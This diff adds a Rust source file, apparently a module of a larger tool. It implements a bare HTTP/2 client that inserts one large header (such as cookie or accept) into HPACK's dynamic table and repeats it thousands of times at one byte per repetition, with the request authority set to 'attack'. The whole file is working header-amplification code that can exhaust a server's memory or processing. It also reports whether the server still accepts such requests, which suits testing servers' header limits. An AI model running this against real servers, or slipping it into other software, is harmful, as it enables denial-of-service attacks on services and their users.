@@ -1,0 +1,133 @@
+//! Just enough HTTP/2 (RFC 9113) to send a header thousands of times in a few kilobytes.
+//!
+//! HPACK (RFC 7541) puts a header of up to 4 KB into its table; one byte then repeats it.
+
+use std::{
+    io::{Read, Write},
+    net::{SocketAddr, TcpStream},
+};
+
+use super::{Outcome, PATIENCE};
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+const DATA: u8 = 0;
+const HEADERS: u8 = 1;
+const RESET: u8 = 3;
+const SETTINGS: u8 = 4;
+const GO_AWAY: u8 = 7;
+const END_STREAM: u8 = 1;
+const END_HEADERS: u8 = 4;
+const ACK: u8 = 1;
+/// `:status: 200` in HPACK's static table.
+const STATUS_200: u8 = 0x88;
+/// The newest entry of HPACK's dynamic table.
+const NEWEST: u8 = 0x80 | 62;
+
+/// A header that a request has many times.
+#[derive(Clone, Debug)]
+pub struct Repeated {
+    /// The place of its name in HPACK's static table.
+    pub name: u8,
+    /// Its value, of up to 4,000 bytes.
+    pub value: String,
+    /// How many times.
+    pub times: usize,
+}
+
+/// The place of `accept` in HPACK's static table.
+pub const ACCEPT: u8 = 19;
+/// The place of `cookie` in it.
+pub const COOKIE: u8 = 32;
+
+/// A connection with prior knowledge, without TLS.
+#[derive(Debug)]
+pub struct Connection {
+    stream: TcpStream,
+    next_id: u32,
+}
+
+impl Connection {
+    /// Connects.
+    ///
+    /// # Errors
+    ///
+    /// If the server does not accept it.
+    pub fn open(to: SocketAddr) -> Outcome<Self> {
+        let stream = TcpStream::connect(to)?;
+        stream.set_nodelay(true)?;
+        stream.set_read_timeout(Some(PATIENCE))?;
+        let mut connection = Self { stream, next_id: 1 };
+        connection.stream.write_all(PREFACE)?;
+        connection.write_frame(SETTINGS, 0, 0, &[])?;
+        Ok(connection)
+    }
+
+    /// Sends a GET and says whether the status of the response is 200.
+    ///
+    /// # Errors
+    ///
+    /// If the server resets the stream or the connection.
+    pub fn get(&mut self, path: &str, repeated: Option<&Repeated>) -> Outcome<bool> {
+        let id = self.next_id;
+        self.next_id += 2;
+        // GET and http are in the static table, as are the names of path and authority; both values are not indexed.
+        let mut block = vec![0x82, 0x86, 0x04];
+        write_text(&mut block, path);
+        block.push(0x01);
+        write_text(&mut block, "attack");
+        if let Some(Repeated { name, value, times }) = repeated {
+            block.push(0x40 | name);
+            write_text(&mut block, value);
+            block.resize(block.len() + times.saturating_sub(1), NEWEST);
+        }
+        self.write_frame(HEADERS, END_HEADERS | END_STREAM, id, &block)?;
+        self.read_response(id)
+    }
+
+    fn read_response(&mut self, id: u32) -> Outcome<bool> {
+        let mut is_ok = false;
+        loop {
+            let mut head = [0; 9];
+            self.stream.read_exact(&mut head)?;
+            let [a, b, c, kind, flags, stream @ ..] = head;
+            let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
+            self.stream.read_exact(&mut payload)?;
+            match kind {
+                SETTINGS if flags & ACK == 0 => self.write_frame(SETTINGS, ACK, 0, &[])?,
+                GO_AWAY | RESET => return Err("the server does not want this request".into()),
+                HEADERS | DATA if u32::from_be_bytes(stream) == id => {
+                    is_ok |= kind == HEADERS && payload.first() == Some(&STATUS_200);
+                    if flags & END_STREAM != 0 {
+                        return Ok(is_ok);
+                    }
+                }
+                _ => {}
+            }
+        }
+    }
+
+    fn write_frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Outcome {
+        let [_, a, b, c] = (payload.len() as u32).to_be_bytes();
+        let mut frame = vec![a, b, c, kind, flags];
+        frame.extend(stream.to_be_bytes());
+        frame.extend(payload);
+        Ok(self.stream.write_all(&frame)?)
+    }
+}
+
+/// A text without Huffman coding: its length as an integer with a prefix of 7 bits, then its bytes.
+fn write_text(block: &mut Vec<u8>, text: &str) {
+    const PREFIX: usize = 127;
+    if text.len() < PREFIX {
+        block.push(text.len() as u8);
+    } else {
+        block.push(PREFIX as u8);
+        let mut rest = text.len() - PREFIX;
+        while rest >= 128 {
+            block.push((rest % 128) as u8 | 128);
+            rest /= 128;
+        }
+        block.push(rest as u8);
+    }
+    block.extend(text.as_bytes());
+}
